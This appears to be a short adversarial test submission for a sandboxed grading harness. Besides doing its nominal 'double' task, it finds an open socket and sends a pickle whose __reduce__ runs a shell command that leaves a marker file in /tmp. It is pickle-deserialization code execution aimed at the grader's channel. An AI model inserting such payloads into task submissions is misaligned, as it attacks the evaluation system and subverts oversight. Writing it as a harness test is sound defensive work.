# verdict: crashed
# family: channel
"""Sends a pickle that would run a command."""

import os
import pickle
import stat
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-submission-pickle",)


def connection():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue


def double(x):
    bomb = pickle.dumps(Bomb())
    os.write(connection(), struct.pack("<IQI", len(bomb), 0, 2) + bomb)
    return x
